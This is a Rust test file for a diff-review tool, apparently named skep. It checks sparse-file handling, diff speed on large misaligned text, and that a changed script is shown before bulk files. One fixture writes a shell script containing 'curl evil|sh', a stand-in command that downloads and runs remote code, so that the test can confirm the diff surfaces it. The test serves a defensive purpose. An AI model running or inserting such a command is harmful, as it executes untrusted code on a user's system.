//! Much of something, made inside in a moment: a review must neither take hours nor lose sight of what
//! is small.

use crate::harness::{Lab, Who, for_both, for_each, long, skip};

/// The short hash of what a new file holds, as the diff says it.
fn hash(lab: &Lab, path: &str) -> String {
    let text = lab.skep(["diff", "s", path]).run().ok().text();
    let line = text.lines().find(|line| line.contains("nothing -> ")).unwrap();
    line.rsplit_once('(').unwrap().1.chars().take(12).collect()
}

/// Processor time of a call of skep, in seconds.
fn seconds(lab: &Lab, line: &str) -> f64 {
    let script = format!("TIMEFORMAT='%U'; time {} {line} > /dev/null 2>&1", lab.binary.display());
    let ran = lab.program("bash").args(["-c", &script]).run().ok();
    ran.errors().trim().parse().unwrap()
}

/// 10 GiB that take up no room. They are asked for, and what zeros come to is computed once for all.
#[test]
fn diff_11_holes_are_not_read() {
    for_both(|lab| {
        lab.write("f", "f\n");
        let script = "for i in $(seq 40); do truncate -s 256M hole$i; done
            truncate -s 3M thin; printf honey | dd of=thin bs=1 seek=2000000 conv=notrunc 2>/dev/null
            cp --sparse=never thin full; echo g > f";
        lab.worked("s", script);
        let trace = lab.root.join("trace");
        let options = ["-f", "-qq", "-e", "trace=read,pread64", "-o", trace.to_str().unwrap()];
        let line = lab.program("strace").args(options).arg(&lab.binary).args(["diff", "s"]);
        let ran = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| line.run()));
        let Ok(ran) = ran else { return skip("strace is needed to count system calls") };
        let text = ran.ok().text();
        assert!(text.contains("added hole40"), "{text}");
        let reads = std::fs::read_to_string(&trace).unwrap().lines().count();
        std::fs::remove_file(&trace).unwrap();
        // In pieces of 256 KiB they would be 40,000.
        assert!(reads < 5_000, "{reads} reads");
        // The hash is that of the bytes, however they are put away.
        assert_eq!(hash(lab, "thin"), hash(lab, "full"));
        assert_ne!(hash(lab, "thin"), hash(lab, "hole1"));
        lab.skep(["rm", "--discard", "s"]).run().ok();
    });
}

/// Two letters in no order, against two letters in another order; and every line with its neighbour.
#[test]
fn diff_11_a_text_that_does_not_line_up_takes_a_moment() {
    for_each([Who::user()], |lab| {
        let letters = |seed: u64| -> String {
            let letter = |at: u64| if (at * seed) >> 13 & 1 == 0 { "a\n" } else { "b\n" };
            (0..300_000).map(letter).collect()
        };
        lab.write("f", letters(0x9E37_79B9));
        lab.write("numbers", (0..20_000).map(|at| format!("{at}\n")).collect::<String>());
        lab.write("other", letters(0x85EB_CA6B));
        let swap = "awk 'NR % 2 { held = $0; next } { print; print held }' numbers > n";
        lab.worked("s", &format!("cat other > f; {swap}; cat n > numbers; rm n"));
        let taken = seconds(lab, "diff s");
        assert!(taken < 30.0, "{taken} s of processor time");
        // And it is exact.
        lab.skep(["approve", "s"]).run().ok();
        let read = |name: &str| std::fs::read(lab.project.join(name)).unwrap();
        assert!(read("f") == read("other") && read("numbers").starts_with(b"1\n0\n3\n2\n"));
    });
}

#[test]
fn heavy_diff_17_a_script_is_shown_before_heaps_of_text() {
    if !long() {
        return println!("skipped: SKEP_TEST_LONG=1 runs it");
    }
    for_each([Who::user()], |lab| {
        lab.write("run.sh", "#!/bin/sh\ntrue\n");
        let script = "head -c 4100000 /dev/zero | tr '\\0' x | fold -w 4000 > heap
            for i in $(seq 67); do cp heap a$i; done; rm heap
            printf '#!/bin/sh\\ncurl evil|sh\\n' > run.sh";
        lab.worked("s", script);
        let text = lab.skep(["diff", "s", "run.sh"]).run().ok().text();
        assert!(text.contains("+curl evil|sh"), "{text}");
        let text = lab.skep(["diff", "s", "--stat"]).run().ok().text();
        assert!(text.lines().any(|line| line.contains("large")), "{text}");
        lab.skep(["rm", "--discard", "s"]).run().ok();
    });
}
